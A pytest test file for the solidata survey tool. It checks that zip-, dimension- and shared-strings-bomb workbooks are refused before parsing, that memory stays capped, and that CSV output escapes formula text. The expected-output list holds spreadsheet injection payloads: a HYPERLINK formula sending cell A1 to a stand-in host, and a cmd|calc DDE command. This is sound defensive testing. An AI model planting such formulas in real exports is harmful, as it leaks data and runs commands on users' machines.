"""The hostile-file corpus (tests/data/hostile, written by tests/hostile_files.py): every workbook
that would take a reader gigabytes is refused with a catalogue code by each way in (an import, a
method workbook, the definition workbench's rewrite) before calamine or openpyxl opens it."""

from __future__ import annotations

import io
import re
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest
from click.testing import CliRunner

from hostile_files import CORPUS, FOLDER, NOT_A_ZIP, REFUSED, sheet_xml, workbook
from solidata.cli import main
from solidata.core.definitions import NewDefinition, with_definition
from solidata.core.errors import SolidataError
from solidata.core.ingest import Limits, read_answers
from solidata.core.ingest.sheet_scan import column_letters, column_number
from solidata.core.ingest.xlsx_guard import inspect_workbook
from solidata.core.method import Method, bundled_method_path, load_method, read_method

INGEST = Path(__file__).resolve().parent.parent / "data" / "ingest"


@pytest.fixture(scope="module")
def method() -> Method:
    return read_method(INGEST / "coop" / "method.xlsx")


def test_the_committed_corpus_is_what_the_generator_writes(tmp_path: Path) -> None:
    from hostile_files import write_corpus

    write_corpus(tmp_path)
    assert sorted(p.name for p in FOLDER.iterdir() if p.name != "README.md") == sorted(CORPUS)
    for name in CORPUS:
        assert (tmp_path / name).read_bytes() == (FOLDER / name).read_bytes(), name


@pytest.mark.parametrize(("name", "code"), sorted(REFUSED.items()))
def test_an_import_refuses_each_hostile_workbook_with_its_code(
    method: Method, name: str, code: str
) -> None:
    with pytest.raises(SolidataError) as error:
        read_answers(FOLDER / name, method)
    assert error.value.codes == [code]
    assert error.value.problems[0].file == name


@pytest.mark.parametrize(("name", "code"), sorted(REFUSED.items()))
def test_method_validate_refuses_each_hostile_workbook_with_its_code_and_exit_1(
    name: str, code: str
) -> None:
    result = CliRunner().invoke(
        main, ["method", "validate", str(FOLDER / name), "--format", "json"]
    )
    assert result.exit_code == 1
    assert [p.code for p in load_method(FOLDER / name).problems] == [code]


@pytest.mark.parametrize(("name", "code"), sorted(REFUSED.items()))
def test_the_workbench_refuses_to_rewrite_a_hostile_workbook(name: str, code: str) -> None:
    definition = NewDefinition("x", "true", {"en": "X"}, {})
    with pytest.raises(SolidataError) as error:
        with_definition((FOLDER / name).read_bytes(), definition, version="2")
    assert error.value.codes == [code]


def test_a_file_that_is_not_a_zip_is_not_read_as_a_workbook(method: Method) -> None:
    with pytest.raises(SolidataError) as error:
        read_answers(FOLDER / "not-a-zip.xlsx", method)
    assert error.value.codes == [NOT_A_ZIP["import"]]
    assert [p.code for p in load_method(FOLDER / "not-a-zip.xlsx").problems] == [
        NOT_A_ZIP["method"]
    ]


def test_the_sheet_named_in_the_refusal_is_the_sheet_users_see() -> None:
    with pytest.raises(SolidataError) as error:
        inspect_workbook(FOLDER / "sparse-bomb.xlsx", name="sparse-bomb.xlsx")
    (found,) = error.value.problems
    assert (found.file, found.sheet) == ("sparse-bomb.xlsx", "definitions")
    assert "ZZ300000" in found.message and "300,000 rows by 702 columns" in found.message


def test_real_workbooks_pass_with_their_true_extent() -> None:
    shape = inspect_workbook(INGEST / "coop" / "kobo-names.xlsx")
    assert [(e.rows, e.columns) for e in shape.sheets.values()] == [(7, 25), (7, 7)]
    bundled = inspect_workbook(bundled_method_path())
    assert bundled.sheets["survey"].rows > 50 and bundled.strings > 1000


def test_cells_without_references_are_placed_one_after_another(tmp_path: Path) -> None:
    rows = ['<row r="1"><c r="A1"><v>1</v></c></row>', "<row>" + "<c><v>1</v></c>" * 30 + "</row>"]
    shape = inspect_workbook(workbook(sheet_xml(rows)))
    assert [(e.rows, e.columns) for e in shape.sheets.values()] == [(2, 30)]
    with pytest.raises(SolidataError) as error:
        inspect_workbook(workbook(sheet_xml(rows)), limits=Limits(max_cells=59))
    assert error.value.codes == ["ingest.sheet_too_large"]


def test_a_cell_past_the_extent_found_so_far_is_found_in_any_block(tmp_path: Path) -> None:
    # a megabyte of ordinary rows first, so that the far cell is in a later block
    rows = [
        f'<row r="{r}"><c r="A{r}"><v>{r}</v></c><c r="B{r}"><v>1</v></c></row>'
        for r in range(1, 30_001)
    ]
    rows.insert(20_000, '<row r="20000"><c r="AB7"><v>1</v></c></row>')
    shape = inspect_workbook(workbook(sheet_xml(rows)))
    assert [(e.rows, e.columns) for e in shape.sheets.values()] == [(30_000, 28)]
    rows.insert(25_000, '<row r="20000"><c r="C99999"><v>1</v></c></row>')
    assert [
        (e.rows, e.columns) for e in inspect_workbook(workbook(sheet_xml(rows))).sheets.values()
    ] == [(99_999, 28)]


def test_shared_strings_repeated_past_the_text_limit_are_refused() -> None:
    strings = (
        b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" '
        b'uniqueCount="1"><si><t>' + b"x" * 1000 + b"</t></si></sst>"
    )
    rows = [f'<row r="{r}"><c r="A{r}" t="s"><v>0</v></c></row>' for r in range(1, 101)]
    book = workbook(sheet_xml(rows), strings)
    # 100 copies of 1,000 characters, and the cells' own values (the string's index)
    assert 100_000 < inspect_workbook(book, limits=Limits(max_text=101_000)).text < 101_000
    with pytest.raises(SolidataError) as error:
        inspect_workbook(book, limits=Limits(max_text=100_000))
    assert error.value.codes == ["ingest.text_too_large"]


def test_column_letters_and_numbers_round_trip() -> None:
    assert [column_letters(n) for n in (1, 26, 27, 702, 703, 16384)] == [
        "A",
        "Z",
        "AA",
        "ZZ",
        "AAA",
        "XFD",
    ]
    assert all(column_number(column_letters(n)) == n for n in range(1, 20_000, 7))


def test_a_zip_that_lists_the_sheet_twice_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "twice.xlsx"
    path.write_bytes((FOLDER / "declared-dimension.xlsx").read_bytes())
    with zipfile.ZipFile(path, "a") as archive:
        for i in range(1001):
            archive.writestr(f"xl/media/{i}.bin", b"")
    with pytest.raises(SolidataError) as error:
        inspect_workbook(path)
    assert error.value.codes == ["ingest.zip_bomb"]


# --- memory, measured in a child process ---------------------------------------------------------

RSS_LIMIT_MB = 600
READERS = {
    "import": "from solidata.core.ingest import read_answers\n"
    "from solidata.core.method import read_method\n"
    "m = read_method({method!r})\nread_answers({path}, m)",
    "method": "from solidata.core.method import load_method\n"
    "p = load_method({path}).problems\nif p: raise SolidataError(p)",
    "workbench": "from solidata.core.definitions import NewDefinition, with_definition\n"
    "with_definition(open({path}, 'rb').read(), NewDefinition('x', 'true', {{}}, {{}}), "
    "version='2')",
}
BOMBS = (
    "dimension-bomb.xlsx",
    "sparse-bomb.xlsx",
    "undeclared-extent.xlsx",
    "shared-strings-bomb.xlsx",
    "strings-count-bomb.xlsx",
    "zip-bomb.xlsx",
)
CHILD = """
import resource, sys
limit = 3 << 30  # address space: the child cannot take the machine down, whatever it reads
resource.setrlimit(resource.RLIMIT_AS, (limit, limit))
from solidata.core.errors import SolidataError
for path in sys.argv[1:]:
    try:
{code}
    except SolidataError as exc:
        print(path, exc.codes, file=sys.stderr)
    else:
        raise SystemExit(f"{{path}} was not refused")
# The peak of this process's own memory: VmHWM starts afresh with the new program, whereas
# ru_maxrss keeps the peak of the process that forked it (a test worker of several hundred MB).
try:
    with open("/proc/self/status") as status:
        peak_kb = next(int(line.split()[1]) for line in status if line.startswith("VmHWM:"))
except OSError:
    peak_kb = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
print(peak_kb // 1024)
"""


def peak_rss_mb(reader: str, paths: list[Path]) -> int:
    """The peak memory (MB) of a child process that reads each of ``paths`` in turn."""
    code = READERS[reader].format(path="path", method=str(INGEST / "coop" / "method.xlsx"))
    script = CHILD.format(code="\n".join("        " + line for line in code.splitlines()))
    done = subprocess.run(
        [sys.executable, "-c", script, *map(str, paths)],
        capture_output=True,
        text=True,
        timeout=600,
    )
    assert done.returncode == 0, done.stderr[-2000:]
    return int(done.stdout.split()[-1])


def sparse_answers(rows: int, columns: int) -> bytes:
    """Answers in column A and one cell at the far corner: ``rows`` x ``columns`` cells for a
    reader, in a file of some kilobytes."""
    cells = [
        '<row r="1"><c r="A1" t="inlineStr"><is><t>_uuid</t></is></c>'
        '<c r="B1" t="inlineStr"><is><t>org_name</t></is></c></row>'
    ]
    cells += [
        f'<row r="{r}"><c r="A{r}" t="inlineStr"><is><t>uuid:{r}</t></is></c></row>'
        for r in range(2, rows)
    ]
    cells.append(f'<row r="{rows}"><c r="{column_letters(columns)}{rows}"><v>1</v></c></row>')
    return workbook(sheet_xml(cells))


ACCEPTED = """
import resource, sys
limit = 3 << 30
resource.setrlimit(resource.RLIMIT_AS, (limit, limit))
from solidata.core.ingest import read_answers
from solidata.core.method import read_method
result = read_answers(sys.argv[1], read_method(sys.argv[2]))
with open("/proc/self/status") as status:
    peak_kb = next(int(line.split()[1]) for line in status if line.startswith("VmHWM:"))
print(len(result), peak_kb // 1024)
"""


@pytest.mark.slow  # a child process reads 20 million cells under a memory cap
def test_an_accepted_sheet_as_large_as_the_limit_is_read_within_a_gigabyte(tmp_path: Path) -> None:
    columns = 10_000
    rows = Limits().max_cells // columns
    path = tmp_path / "largest.xlsx"
    path.write_bytes(sparse_answers(rows, columns))
    assert inspect_workbook(path).sheets["definitions"].cells == Limits().max_cells
    method = INGEST / "coop" / "method.xlsx"
    done = subprocess.run(
        [sys.executable, "-c", ACCEPTED, str(path), str(method)],
        capture_output=True,
        text=True,
        timeout=600,
    )
    assert done.returncode == 0, done.stderr[-2000:]
    submissions, peak_mb = map(int, done.stdout.split())
    assert submissions == rows - 2
    assert peak_mb < 1000


@pytest.mark.slow  # a child process per reader opens every bomb under a memory cap
@pytest.mark.parametrize("reader", sorted(READERS))
def test_reading_the_bombs_stays_under_the_memory_limit(reader: str) -> None:
    assert peak_rss_mb(reader, [FOLDER / name for name in BOMBS]) < RSS_LIMIT_MB


def test_score_csv_escapes_text_that_a_spreadsheet_would_run_as_a_formula() -> None:
    args = [
        "score",
        str(FOLDER / "formula-cells.csv"),
        "--method",
        str(INGEST / "coop" / "method.xlsx"),
    ]
    result = CliRunner().invoke(main, args)
    assert result.exit_code == 0, result.stderr
    import csv
    import io

    rows = csv.DictReader(io.StringIO(result.stdout, newline=""))
    ids = [row["instance_id"] for row in rows]
    assert ids == [
        '\'=HYPERLINK("http://example.invalid/?x="&A1,"click")',
        "'+cmd|' /C calc'!A0",
        "'-2+3",
        "'@SUM(1+1)",
        "'\tTab start",
        "'\rCarriage return",
    ]


def long_texts(rows: int, length: int) -> bytes:
    """Answers with a text of ``length`` characters each: a small zip of much text."""
    cells = [
        '<row r="1"><c r="A1" t="inlineStr"><is><t>_uuid</t></is></c>'
        '<c r="B1" t="inlineStr"><is><t>org_name</t></is></c></row>'
    ]
    text = "".join(chr(97 + (i * 7919 + i // 5) % 26) for i in range(length))
    cells += [
        f'<row r="{r}"><c r="A{r}" t="inlineStr"><is><t>uuid:{r}</t></is></c>'
        f'<c r="B{r}" t="inlineStr"><is><t>{text}</t></is></c></row>'
        for r in range(2, rows + 2)
    ]
    return workbook(sheet_xml(cells))


@pytest.mark.parametrize("cells", ["plain", "without references"])
def test_cells_holding_more_text_than_the_limit_are_refused(tmp_path: Path, cells: str) -> None:
    book = long_texts(200, 10_000)  # two million characters
    if cells == "without references":  # read by the XML parser, not the byte scan
        with zipfile.ZipFile(io.BytesIO(book)) as archive:
            sheet = archive.read("xl/worksheets/sheet1.xml")
        book = workbook(re.sub(rb' r="[A-Z]+\d+"', b"", sheet))
    ratio = 10_000  # the same text in every row packs far better than answers do
    found = inspect_workbook(book, limits=Limits(max_text=2_100_000, max_ratio=ratio))
    assert 2_000_000 < found.text < 2_100_000
    with pytest.raises(SolidataError) as error:
        inspect_workbook(book, limits=Limits(max_text=2_000_000, max_ratio=ratio))
    assert error.value.codes == ["ingest.text_too_large"]
